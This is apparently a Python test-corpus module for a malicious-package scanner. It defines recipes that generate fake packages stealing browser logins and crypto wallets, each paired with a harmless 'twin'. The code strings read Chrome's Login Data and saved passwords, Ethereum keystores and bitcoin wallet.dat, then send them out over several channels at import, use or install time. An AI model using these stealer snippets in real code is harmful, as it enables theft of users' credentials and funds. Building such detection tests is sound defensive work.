"""T31: opens the stores of browsers and wallets (MITRE ATT&CK T1555.003, T1657).

Two of five campaigns with a known aim are after these. The twins know the same paths and only ask
whether a browser is there, or keep data of their own; browser-cookie3 reads cookies when it is
used, which is for policy to say.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import IF_ACT, acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

CHROME = '_send(_wrap((HOME / ".config/google-chrome/Default/Login Data").read_bytes()))'
CHROME_SQL = """
import shutil, sqlite3
copy = "/tmp/THE_MODULE.db"
shutil.copy(HOME / ".config/google-chrome/Default/Login Data", copy)
link = sqlite3.connect(copy)
rows = link.execute("select origin_url, username_value, password_value from logins").fetchall()
link.close()
_send(_wrap(b" ".join(bytes(row[2]) for row in rows)))
"""
KEYSTORE = """
import glob
for path in glob.glob(str(HOME / ".ethereum/keystore/*")):
    _send(_wrap(pathlib.Path(path).read_bytes()))
"""
WALLET = '_send(_wrap((HOME / ".bitcoin/wallet.dat").read_bytes()))'
ONLY_OPENS = """
for name in (".config/google-chrome/Default/Login Data", ".bitcoin/wallet.dat"):
    with (HOME / name).open("rb") as file:
        file.read(16)
"""
COPIES = """
subprocess.run(["tar", "-czf", "/tmp/THE_MODULE.tgz", "-C", str(HOME), ".bitcoin",
                ".config/google-chrome"], capture_output=True)
_send(_wrap(pathlib.Path("/tmp/THE_MODULE.tgz").read_bytes()))
"""
LOOKS = """
[name for name in (".config/google-chrome", ".mozilla", ".config/chromium") if (HOME / name).exists()]
"""
OWN_STORE = """
import sqlite3
link = sqlite3.connect("/tmp/THE_MODULE.db")
link.execute("create table if not exists logins (name text)")
link.close()
"""
FUNCTION = '''
def cookies():
    """What the browser remembers."""
    if ACT:
        THE_ACT()
'''
LOOKS_ONLY, OWN_ONLY = "asks which browsers are there", "keeps a store of its own"

WAYS = (
    (
        "chrome-http",
        Phase.IMPORT,
        Channel.HTTP,
        Encoding.PLAIN,
        senders.HTTP,
        CHROME,
        LOOKS,
        LOOKS_ONLY,
    ),
    (
        "chrome-sql-https",
        Phase.IMPORT,
        Channel.HTTPS,
        Encoding.BASE64,
        senders.HTTPS,
        CHROME_SQL,
        OWN_STORE,
        OWN_ONLY,
    ),
    (
        "keystore-tcp",
        Phase.IMPORT,
        Channel.TCP,
        Encoding.XOR,
        senders.TCP,
        KEYSTORE,
        LOOKS,
        LOOKS_ONLY,
    ),
    ("wallet-udp", Phase.IMPORT, Channel.UDP, Encoding.HEX, senders.UDP, WALLET, LOOKS, LOOKS_ONLY),
    (
        "tar-curl",
        Phase.IMPORT,
        Channel.PROCESS,
        Encoding.ARCHIVE,
        senders.CURL,
        COPIES,
        OWN_STORE,
        OWN_ONLY,
    ),
    (
        "opened-only",
        Phase.IMPORT,
        Channel.NONE,
        Encoding.NONE,
        senders.HTTP,
        ONLY_OPENS,
        LOOKS,
        LOOKS_ONLY,
    ),
    (
        "chrome-in-function",
        Phase.USE,
        Channel.HTTP,
        Encoding.GZIP,
        senders.HTTP,
        CHROME_SQL,
        LOOKS,
        LOOKS_ONLY,
    ),
)

RECIPES = (
    *(
        Recipe(
            technique="T31",
            name=name,
            phase=phase,
            channel=channel,
            encoding=encoding,
            files={
                "THE_MODULE/__init__.py": acting(
                    reenact,
                    honest,
                    FUNCTION if phase is Phase.USE else IF_ACT,
                    sending(sender, Encoding.PLAIN if encoding is Encoding.NONE else encoding),
                )
            },
            twin_does=twin_does,
        )
        for name, phase, channel, encoding, sender, reenact, honest, twin_does in WAYS
    ),
    Recipe(
        technique="T31",
        name="wallet-in-backend",
        phase=Phase.INSTALL,
        channel=Channel.HTTP,
        encoding=Encoding.ZLIB,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(
                WALLET,
                LOOKS,
                head="from packer import build_wheel\n" + sending(senders.HTTP, Encoding.ZLIB),
            ),
            "src/THE_MODULE/__init__.py": '"""Nothing."""\n',
        },
        twin_does=LOOKS_ONLY,
    ),
)
